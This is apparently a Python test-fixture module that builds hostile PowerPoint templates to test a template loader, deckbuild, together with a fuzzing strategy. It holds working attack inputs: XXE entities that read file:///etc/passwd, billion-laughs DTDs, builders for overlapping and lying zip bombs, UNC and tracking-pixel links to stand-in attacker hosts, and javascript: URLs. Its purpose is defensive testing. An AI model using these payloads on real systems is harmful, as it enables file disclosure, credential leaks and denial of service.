"""Hostile PowerPoint templates: the example template with one part patched.

Each maker writes a copy of `assets/example-template.pptx` in which one part
holds what a hostile (or broken) template may hold: a DTD with entities, a zip
bomb, pictures and links that point outside the file, numbers that are not
numbers. `HOSTILE` names each one with what deckbuild must do with it: refuse
it (a message matching the pattern) or build with it after removing something
(a warning matching the pattern).
"""
from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Callable, Dict, Iterable, Optional, Tuple

from hypothesis import strategies as st
from lxml import etree

EXAMPLE_TEMPLATE = Path(__file__).resolve().parent.parent / "assets" / "example-template.pptx"
LAYOUT = "ppt/slideLayouts/slideLayout2.xml"  # Title and Content
LAYOUT_RELS = "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
MASTER = "ppt/slideMasters/slideMaster1.xml"
MASTER_RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
THEME = "ppt/theme/theme1.xml"
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def patched(target: Path, changes: Dict[str, Callable[[str], str]] = None,
            extra: Dict[str, bytes] = None, removed: Iterable[str] = ()) -> Path:
    """The example template with `changes[part](text)` applied, `removed` parts left out
    and `extra` parts added (or put in place of a part of that name, as bytes)."""
    changes, extra = changes or {}, extra or {}
    with zipfile.ZipFile(EXAMPLE_TEMPLATE) as source, \
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as result:
        for info in source.infolist():
            if info.filename in removed or info.filename in extra:
                continue
            data = source.read(info)
            if info.filename in changes:
                data = changes[info.filename](data.decode("utf-8")).encode("utf-8")
            result.writestr(info.filename, data)
        for name, data in extra.items():
            result.writestr(name, data)
    return target


def _prolog(doctype: str, use: str) -> Callable[[str], str]:
    """Put a DOCTYPE after the XML declaration and `use` (an entity) in the layout's name."""
    def change(text: str) -> str:
        head, _, rest = text.partition("?>")
        rest = rest.replace('name="Title and Content"', f'name="{use} Content"', 1)
        return f"{head}?>\n{doctype}{rest}"
    return change


def _relationship(rid: str, kind: str, target: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        return text.replace("</Relationships>", f'<Relationship Id="{rid}" Type="{kind}"'
                            f' Target="{target}" TargetMode="External"/></Relationships>')
    return change


_PICTURE = ('<p:pic><p:nvPicPr><p:cNvPr id="90" name="Linked picture"/><p:cNvPicPr/><p:nvPr/>'
            '</p:nvPicPr><p:blipFill><a:blip {ref}/><a:stretch><a:fillRect/></a:stretch>'
            '</p:blipFill><p:spPr><a:xfrm><a:off x="100" y="100"/><a:ext cx="914400"'
            ' cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
            '</p:pic>')


def _add_picture(ref: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        return text.replace("</p:spTree>", _PICTURE.format(ref=ref) + "</p:spTree>", 1)
    return change


def _link_on_design(rid: str) -> Callable[[str], str]:
    """A click link on the layout's first design shape."""
    def change(text: str) -> str:
        return text.replace('<p:cNvPr id="8" name="Design"/>',
                            f'<p:cNvPr id="8" name="Design"><a:hlinkClick r:id="{rid}"/>'
                            '</p:cNvPr>', 1)
    return change


def _master_background(rid: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        background = (f'<p:bg><p:bgPr><a:blipFill><a:blip r:embed="{rid}"/><a:stretch>'
                      '<a:fillRect/></a:stretch></a:blipFill><a:effectLst/></p:bgPr></p:bg>')
        for old in ("<p:bg>",):
            if old in text:
                start = text.index("<p:bg>")
                end = text.index("</p:bg>") + len("</p:bg>")
                return text[:start] + background + text[end:]
        return text.replace("<p:spTree>", background + "<p:spTree>", 1)
    return change


def zeros_deflated(size: int) -> Tuple[bytes, int]:
    """(raw deflate data of `size` zero bytes, its CRC-32), made a megabyte at a time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    parts, crc, left = [], 0, size
    while left:
        piece = chunk[:min(left, len(chunk))]
        parts.append(packer.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    parts.append(packer.flush())
    return b"".join(parts), crc


def overlapping_bomb(target: Path, copies: int = 2000, size: int = 8 << 20) -> Path:
    """A zip whose directory lists `copies` parts that all share one compressed 8 MB run of
    zeros (the "overlapping files" zip bomb): 16 GB unpacked from a file of a few hundred KB,
    appended to the example template's own parts."""
    with zipfile.ZipFile(EXAMPLE_TEMPLATE) as source:
        parts = [(info.filename, source.read(info)) for info in source.infolist()]
    data, crc = zeros_deflated(size)
    body, directory = bytearray(), bytearray()

    def local(name: bytes, payload: bytes, method: int, crc32: int, raw_size: int) -> int:
        offset = len(body)
        body.extend(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21,
                                crc32, len(payload), raw_size, len(name), 0))
        body.extend(name)
        body.extend(payload)
        return offset

    def central(name: bytes, offset: int, method: int, crc32: int, packed: int, raw: int):
        directory.extend(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method,
                                     0, 0x21, crc32, packed, raw, len(name), 0, 0, 0, 0, 0,
                                     offset))
        directory.extend(name)

    for name, payload in parts:
        packed = zlib.compress(payload, 6)[2:-4]
        offset = local(name.encode(), packed, 8, zlib.crc32(payload), len(payload))
        central(name.encode(), offset, 8, zlib.crc32(payload), len(packed), len(payload))
    shared = local(b"ppt/media/zeros0.bin", data, 8, crc, size)
    for n in range(copies):
        central(f"ppt/media/zeros{n}.bin".encode(), shared, 8, crc, len(data), size)
    count = len(parts) + copies
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, min(count, 0xFFFE),
                      min(count, 0xFFFE), len(directory), len(body), 0)
    target.write_bytes(bytes(body) + bytes(directory) + end)
    return target


def zip_bomb(target: Path, megabytes: int = 250, name: str = "ppt/media/zeros.bin",
             filler: bytes = b"\0") -> Path:
    """The example template with a part of `megabytes` MB of `filler` (250 MB of zeros are
    about 250 KB in the file); a part of the template's own name is put in its place."""
    patched(target, removed={name})
    with zipfile.ZipFile(target, "a") as archive:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        # Written through zipfile's own writer, a megabyte at a time (never 250 MB in memory).
        with archive.open(info, "w", force_zip64=False) as handle:
            chunk = (filler * (1 << 20))[:1 << 20]
            for _ in range(megabytes):
                handle.write(chunk)
    return target


def understated(target: Path, name: str, said: int) -> Path:
    """Make the zip's headers say part `name` inflates to `said` bytes (a bomb that lies)."""
    data = bytearray(target.read_bytes())
    encoded = name.encode()
    for signature, size_at, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        start = data.find(signature)
        while start >= 0:
            if data[start + name_at:start + name_at + len(encoded)] == encoded:
                data[start + size_at:start + size_at + 4] = struct.pack("<I", said)
            start = data.find(signature, start + 4)
    target.write_bytes(bytes(data))
    return target


BILLION_LAUGHS = ('<!DOCTYPE a:theme [<!ENTITY l0 "ha">'
                  + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
                  + "]>")

# name -> (make it at a path, "refused" or "warned", the message's pattern)
HOSTILE: Dict[str, Tuple[Callable[[Path], Path], str, Optional[str]]] = {
    "dtd-internal-entity": (lambda p: patched(p, {LAYOUT: _prolog(
        '<!DOCTYPE p:sldLayout [<!ENTITY org "Example">]>', "&org;")}),
        "refused", r"holds a DTD"),
    "dtd-external-entity": (lambda p: patched(p, {LAYOUT: _prolog(
        '<!DOCTYPE p:sldLayout [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', "&secret;")}),
        "refused", r"holds a DTD"),
    "billion-laughs-theme": (lambda p: patched(p, {THEME: lambda t: t.replace(
        "?>", "?>\n" + BILLION_LAUGHS, 1).replace('name="', 'name="&l9;', 1)}),
        "refused", r"holds a DTD"),
    "undefined-entity": (lambda p: patched(p, {LAYOUT: lambda t: t.replace(
        'name="Title and Content"', 'name="&nbsp; Content"', 1)}),
        "refused", r"not well-formed XML"),
    "zip-bomb": (zip_bomb, "refused", r"zip bomb"),
    "overlapping-zip-bomb": (overlapping_bomb, "refused", r"zip bomb"),
    "unc-picture": (lambda p: patched(p, {
        LAYOUT_RELS: _relationship("rId90", IMAGE, r"\\attacker.example\share\x.png"),
        LAYOUT: _add_picture('r:embed="rId90"')}),
        "warned", r"removed a picture the template links to outside itself"),
    "http-linked-picture": (lambda p: patched(p, {
        LAYOUT_RELS: _relationship("rId90", IMAGE, "http://tracker.example/pixel.png"),
        LAYOUT: _add_picture('r:link="rId90"')}),
        "warned", r"removed a picture the template links to outside itself"),
    "file-hyperlink": (lambda p: patched(p, {
        LAYOUT_RELS: _relationship("rId91", HYPERLINK, "file:///etc/passwd"),
        LAYOUT: _link_on_design("rId91")}),
        "warned", r"removed a link to 'file:///etc/passwd'"),
    "unc-background": (lambda p: patched(p, {
        MASTER_RELS: _relationship("rId90", IMAGE, r"\\attacker.example\share\bg.png"),
        MASTER: _master_background("rId90")}),
        "warned", r"removed a picture the template links to outside itself"),
    "web-hyperlink": (lambda p: patched(p, {
        LAYOUT_RELS: _relationship("rId91", HYPERLINK, "https://www.example.org/"),
        LAYOUT: _link_on_design("rId91")}),
        "kept", None),
    "lummod-not-a-number": (lambda p: patched(p, {LAYOUT: lambda t: t.replace(
        '<a:schemeClr val="accent1"/>', '<a:schemeClr val="accent1"><a:lumMod val="abc"/>'
        '</a:schemeClr>', 1)}), "refused", r'lumMod val="abc"> is not a whole number'),
    "offset-not-a-number": (lambda p: patched(p, {LAYOUT: lambda t: t.replace(
        '<a:off x="0" y="1320800"/>', '<a:off x="abc" y="1320800"/>', 1)}),
        "refused", r'a:off x="abc"> is not a whole number'),
    "colour-not-hex": (lambda p: patched(p, {THEME: lambda t: t.replace(
        'srgbClr val="', 'srgbClr val="ZZ', 1)}), "refused", r"is not a colour"),
    "no-presentation-relationships": (lambda p: patched(p, removed={
        "ppt/_rels/presentation.xml.rels"}), "refused",
        r"ppt/presentation.xml.*refers to the relationship 'rId\d+', which its list"),
    "missing-layout": (lambda p: patched(p, removed={LAYOUT}), "refused",
                       r"points to ppt/slideLayouts/slideLayout2.xml, which is not in the file"),
    "layout-without-relationships": (lambda p: patched(p, removed={LAYOUT_RELS}), "refused",
                                     r"slideLayout2.xml: it has no relationship to its slideMaster"),
    "no-content-types": (lambda p: patched(p, removed={"[Content_Types].xml"}), "refused",
                         r"it has no \[Content_Types\].xml part"),
    "part-without-content-type": (lambda p: patched(p, {"[Content_Types].xml": lambda t: re.sub(
        r'<Default Extension="jpeg"[^>]*/>', "", t)}), "refused",
        r"the part docProps/thumbnail.jpeg has no content type"),
}


KEPT_SCHEMES = ("http:", "https:", "mailto:", "tel:")


def outside_references(data: bytes) -> list:
    """Every external relationship of a package other than a kept hyperlink."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                for rel in etree.fromstring(package.read(name)):
                    if rel.get("TargetMode") == "External":
                        target = rel.get("Target")
                        if not (rel.get("Type").endswith("/hyperlink")
                                and target.lower().startswith(KEPT_SCHEMES)):
                            found.append((name, target))
    return found


def every_part_is_plain_xml(data: bytes) -> None:
    """Every XML part parses without a DTD (nothing of a hostile template's kept)."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(package.read(name), parser)
                assert root.getroottree().docinfo.internalDTD is None, name


# ---------------------------------------------------------------- for the fuzz test

_XML_DECLARATION = re.compile(r"^<\?xml[^>]*\?>")
_NUMBER = re.compile(r'(\s[\w:]+=")(-?[0-9]+)(")')
_ATTRIBUTE_VALUE = re.compile(r'(\s[\w:]+=")')
_COLOUR = re.compile(r'((?:srgbClr val|lastClr)=")([0-9A-Fa-f]{6})(")')
RELATIONSHIP_KINDS = ["image", "hyperlink", "oleObject", "video", "audio", "media",
                      "slideLayout", "theme", "officeDocument", "package"]
OUTSIDE = [r"\\attacker.example\share\x.png", "file:///etc/passwd", "http://tracker.example/p",
           "https://www.example.org/", "javascript:alert(1)", "smb://host/x", "x.png",
           "mailto:a@b.example", "../../outside.png", "/etc/passwd"]
DOCTYPES = ['<!DOCTYPE r [<!ENTITY e "Example">]>',
            '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE r [<!ENTITY e SYSTEM "http://tracker.example/dtd">]>',
            '<!DOCTYPE r [<!ENTITY % p "x"> %p;]>',
            '<!DOCTYPE r SYSTEM "http://tracker.example/x.dtd">',
            '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;">]>']
ENTITIES = ["&nbsp;", "&e;", "&#0;", "&#xD800;", "&#x1F;", "&", "&amp", "<", "\x01"]
BAD_NUMBERS = ["abc", "", "1e9", "-1", "99999999999999999999999", "1.5", "0x10", " 7",
               "-99999999999", "NaN", "1 2", "\u0661"]
BAD_COLOURS = ["ZZZZZZ", "", "12345", "1234567", "#12345", "red", "FFFFFFFF"]


def example_parts() -> list:
    with zipfile.ZipFile(EXAMPLE_TEMPLATE) as package:
        return package.namelist()


def _in_first_value(text: str, inserted: str) -> str:
    """`inserted` at the start of the part's first attribute value after the root's name."""
    declaration = _XML_DECLARATION.match(text)
    head = declaration.end() if declaration else 0
    matches = [m for m in _ATTRIBUTE_VALUE.finditer(text, head) if "xmlns" not in m.group(1)]
    if not matches:
        return text + inserted
    at = matches[0].end()
    return text[:at] + inserted + text[at:]


def _with_doctype(doctype: str, use: bool) -> Callable[[str], str]:
    def change(text: str) -> str:
        declaration = _XML_DECLARATION.match(text)
        at = declaration.end() if declaration else 0
        text = text[:at] + "\n" + doctype + text[at:]
        return _in_first_value(text, "&e;") if use else text
    return change


def _nth(pattern: "re.Pattern", index: int, value: str) -> Callable[[str], str]:
    """The `index`-th match of `pattern` (counted round) gets `value` as its middle group."""
    def change(text: str) -> str:
        matches = list(pattern.finditer(text))
        if not matches:
            return text
        m = matches[index % len(matches)]
        return text[:m.start(2)] + value + text[m.end(2):]
    return change


@st.composite
def hostile_templates(draw) -> Tuple[str, Callable[[Path], Path]]:
    """(what was done, a maker writing it at a path): the example template, one part patched."""
    parts = example_parts()
    xml_parts = [p for p in parts if p.endswith((".xml", ".rels"))]
    kind = draw(st.sampled_from(["dtd", "entity", "outside-link", "number", "colour",
                                 "zip-bomb", "lying-bomb", "missing", "huge-part", "garbage",
                                 "cut"]))
    part = draw(st.sampled_from(xml_parts))
    if kind == "dtd":
        doctype, use = draw(st.sampled_from(DOCTYPES)), draw(st.booleans())
        return (f"{part}: {doctype} (used: {use})",
                lambda p: patched(p, {part: _with_doctype(doctype, use)}))
    if kind == "entity":
        entity = draw(st.sampled_from(ENTITIES))
        return (f"{part}: {entity!r} in a value",
                lambda p: patched(p, {part: lambda t: _in_first_value(t, entity)}))
    if kind == "outside-link":
        return _outside_link(draw, [p for p in parts if p.endswith(".rels")])
    if kind in ("number", "colour"):
        pattern, values = (_NUMBER, BAD_NUMBERS) if kind == "number" else (_COLOUR, BAD_COLOURS)
        value, index = draw(st.sampled_from(values)), draw(st.integers(0, 200))
        return (f"{part}: {kind} #{index} = {value!r}",
                lambda p: patched(p, {part: _nth(pattern, index, value)}))
    return _package_damage(draw, kind, parts)


def _outside_link(draw, rels_parts: list) -> Tuple[str, Callable[[Path], Path]]:
    rels = draw(st.sampled_from(rels_parts))
    kind = draw(st.sampled_from(RELATIONSHIP_KINDS))
    target = draw(st.sampled_from(OUTSIDE)).replace("&", "&amp;")
    namespace = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    changes = {rels: _relationship("rId90", namespace + kind, target)}
    owner = rels.replace("_rels/", "").replace(".rels", "")
    use = draw(st.sampled_from(["none", "embed", "link", "click", "background"]))
    if owner.startswith(("ppt/slideLayouts/", "ppt/slideMasters/", "ppt/slides/")):
        if use == "click" and owner == LAYOUT:
            changes[owner] = _link_on_design("rId90")
        elif use == "background":
            changes[owner] = _master_background("rId90")
        elif use in ("embed", "link"):
            changes[owner] = _add_picture(f'r:{use}="rId90"')
    return (f"{rels}: external {kind} to {target!r}, used as {use}",
            lambda p: patched(p, changes))


def _package_damage(draw, kind: str, parts: list) -> Tuple[str, Callable[[Path], Path]]:
    if kind in ("zip-bomb", "lying-bomb"):
        megabytes = draw(st.sampled_from([3, 40, 250]))
        name = draw(st.sampled_from(["ppt/media/zeros.bin", THEME, LAYOUT, "[Content_Types].xml"]))
        filler = draw(st.sampled_from([b"\0", b" ", b"<a/>"]))
        if kind == "zip-bomb":
            return (f"{name}: {megabytes} MB of {filler!r}",
                    lambda p: zip_bomb(p, megabytes, name, filler))
        return (f"{name}: {megabytes} MB of {filler!r}, the headers saying 1 KB",
                lambda p: understated(zip_bomb(p, megabytes, name, filler), name, 1024))
    if kind == "missing":
        gone = draw(st.sampled_from(parts))
        return f"{gone}: left out", lambda p: patched(p, removed={gone})
    if kind == "huge-part":
        part = draw(st.sampled_from([LAYOUT, MASTER, THEME, "ppt/presentation.xml"]))
        megabytes = draw(st.sampled_from([5, 20, 40]))
        comment = "<!--" + "x" * (megabytes << 20) + "-->"
        return (f"{part}: a {megabytes} MB comment",
                lambda p: patched(p, {part: lambda t: _XML_DECLARATION.sub(
                    lambda m: m.group(0) + comment, t, count=1)}))
    part = draw(st.sampled_from(parts))
    if kind == "garbage":
        junk = draw(st.binary(max_size=300))
        return f"{part}: {len(junk)} bytes of garbage", lambda p: patched(p, extra={part: junk})
    fraction = draw(st.floats(0.0, 0.999))

    def cut(p: Path) -> Path:
        data = patched(p).read_bytes()
        p.write_bytes(data[:int(len(data) * fraction)])
        return p
    return f"the file cut at {fraction:.0%}", cut
